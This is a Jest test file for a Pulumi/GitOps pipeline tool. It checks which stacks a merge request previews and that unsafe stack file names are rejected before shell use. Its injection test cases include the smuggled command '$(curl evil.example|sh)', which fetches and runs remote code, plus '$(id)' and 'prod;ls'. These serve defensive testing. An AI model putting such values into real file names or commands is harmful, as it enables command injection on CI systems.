import { describe, expect, it } from "@jest/globals";
import * as fs from "fs";
import * as path from "path";
import { copyOfRepo } from "../../test/support/temp-repo";
import { affectedStacks, sandboxStacks, stacksReadingTheTree, unsafeStackNames } from "./affected";
import { childPipeline } from "./pipeline";

const STACKS = ["aws-development", "aws-production", "aws-staging", "development", "production", "staging"];

describe("which stacks a merge request previews", () => {
    it("a change to one stack file previews that stack only", () => {
        expect(affectedStacks(["stacks/Pulumi.staging.yaml"], STACKS)).toEqual({ stacks: ["staging"], gitopsTree: false });
    });

    it("a change to the program previews every stack", () => {
        expect(affectedStacks(["components/flux-bootstrap.ts", "README.md"], STACKS).stacks).toEqual(STACKS);
        expect(affectedStacks(["infra/config/schema.ts"], STACKS).stacks).toEqual(STACKS);
        expect(affectedStacks(["lib/validators.ts"], STACKS).stacks).toEqual(STACKS);
        expect(affectedStacks(["package-lock.json"], STACKS).stacks).toEqual(STACKS);
        expect(affectedStacks(["policy/policies.ts"], STACKS).stacks).toEqual(STACKS);
        // How Pulumi compiles the program (transpile-only, swc) is part of the program.
        expect(affectedStacks(["tsconfig.pulumi.json"], STACKS).stacks).toEqual(STACKS);
    });

    it("a change to the program previews the long-lived stacks, and a sandbox only when its own stack file changes", () => {
        const known = [...STACKS, "aws-sb-1", "sb-2"];
        expect(affectedStacks(["components/environment.ts"], known, ["sb-2"], ["aws-sb-1", "sb-2"]).stacks).toEqual(STACKS);
        expect(affectedStacks(["stacks/Pulumi.aws-sb-1.yaml", "platform/services/podinfo.yaml"], known, ["sb-2"], ["aws-sb-1", "sb-2"]).stacks).toEqual([
            "aws-sb-1",
        ]);
    });

    it("knows a sandbox by its environment", () => {
        const root = copyOfRepo("affected-sandbox", ["stacks"]);
        try {
            const text = fs.readFileSync(path.join(root, "stacks", "Pulumi.development.yaml"), "utf8");
            fs.writeFileSync(
                path.join(root, "stacks", "Pulumi.sb-2.yaml"),
                text.replace("gitops-platform:environment: development", "gitops-platform:environment: sb-2"),
            );
            expect(sandboxStacks(root)).toEqual(["sb-2"]);
        } finally {
            fs.rmSync(root, { recursive: true, force: true });
        }
    });

    it("a change under clusters/ previews nothing but needs the GitOps tree check", () => {
        expect(affectedStacks(["clusters/production/platform.yaml"], STACKS)).toEqual({ stacks: [], gitopsTree: true });
        expect(affectedStacks(["platform/services/podinfo.yaml"], STACKS)).toEqual({ stacks: [], gitopsTree: true });
    });

    it("a change under clusters/ or platform/ previews the stacks with alerts, whose Alert the tree shapes", () => {
        expect(affectedStacks(["platform/services/podinfo.yaml"], STACKS, ["staging"])).toEqual({ stacks: ["staging"], gitopsTree: true });
        expect(affectedStacks(["README.md"], STACKS, ["staging"])).toEqual({ stacks: [], gitopsTree: false });
    });

    it("knows which stacks have alerts from their stack files", () => {
        const root = copyOfRepo("affected", ["stacks"]);
        try {
            expect(stacksReadingTheTree(root)).toEqual([]);
            fs.appendFileSync(path.join(root, "stacks", "Pulumi.staging.yaml"), "  gitops-platform:alerts:\n    type: slack\n");
            expect(stacksReadingTheTree(root)).toEqual(["staging"]);
        } finally {
            fs.rmSync(root, { recursive: true, force: true });
        }
    });

    it("tests, docs and tools the program never loads preview nothing", () => {
        expect(
            affectedStacks(
                [
                    "components/environment.test.ts",
                    "README.md",
                    "tools/sandbox/sandbox.ts",
                    "tools/check/tree-check.ts",
                    "test/stacks.test.ts",
                    "tools/bench/program.ts",
                    "schemas/sources.json",
                ],
                STACKS,
            ),
        ).toEqual({ stacks: [], gitopsTree: false });
    });

    it("a promoted sandbox: its stack file removed, the source environment's folder changed", () => {
        const changes = [
            "stacks/Pulumi.sandbox-a.yaml",
            "clusters/sandbox-a/platform.yaml",
            "clusters/development/platform.yaml",
            "clusters/development/apps.yaml",
        ];
        expect(affectedStacks(changes, STACKS)).toEqual({ stacks: [], gitopsTree: true });
    });

    it("a forked sandbox previews the new sandbox stack", () => {
        const changes = ["stacks/Pulumi.sandbox-b.yaml", "clusters/sandbox-b/platform.yaml", "clusters/sandbox-b/kustomization.yaml"];
        expect(affectedStacks(changes, [...STACKS, "sandbox-b"])).toEqual({ stacks: ["sandbox-b"], gitopsTree: true });
    });

    it("an EKS change to two stacks and a platform bump together", () => {
        const changes = ["stacks/Pulumi.aws-production.yaml", "stacks/Pulumi.aws-staging.yaml", "clusters/production/platform.yaml", ""];
        expect(affectedStacks(changes, STACKS)).toEqual({ stacks: ["aws-production", "aws-staging"], gitopsTree: true });
    });
});

describe("stack names the pipeline's shell receives", () => {
    it("passes the shipped stacks and any name Pulumi accepts", () => {
        expect(unsafeStackNames(["development", "aws-staging", "sandbox_1.perf"])).toEqual([]);
    });

    it.each(["$(curl evil.example|sh)", "*", "two words", "prod;ls", "-rf", "back`tick`"])("refuses a stack file named for '%s', naming the file", (name) => {
        expect(unsafeStackNames(["development", name])).toEqual([
            `stacks/Pulumi.${name}.yaml: '${name}' is not a stack name (letters, digits, '-', '_' and '.'). Fix: rename the file`,
        ]);
    });

    it("stops the pipeline generator before it writes any job", () => {
        const root = copyOfRepo("unsafe-stack", ["stacks", "clusters", "platform"]);
        try {
            fs.copyFileSync(path.join(root, "stacks", "Pulumi.aws-staging.yaml"), path.join(root, "stacks", "Pulumi.$(id).yaml"));
            const image = `registry.example/ci-tools@sha256:${"a".repeat(64)}`;
            expect(() => childPipeline({ event: "merge_request", changed: ["package.json"], image, backend: { cloudOrg: "acme" }, root })).toThrow(
                "stacks/Pulumi.$(id).yaml: '$(id)' is not a stack name",
            );
        } finally {
            fs.rmSync(root, { recursive: true, force: true });
        }
    });

    it("reaches a job's script only as the quoted $STACK variable", () => {
        const image = `registry.example/ci-tools@sha256:${"a".repeat(64)}`;
        const scripts = (["merge_request", "main", "schedule"] as const).flatMap((event) =>
            Object.values(childPipeline({ event, changed: ["package.json"], image, backend: { cloudOrg: "acme" } }))
                .flatMap((job) => (job as { script?: string[] }).script ?? [])
                .filter((line) => /pulumi|preview/.test(line)),
        );
        expect(scripts.length).toBeGreaterThan(0);
        for (const line of scripts) expect(line).not.toMatch(/aws-(development|staging|production)/);
    });
});
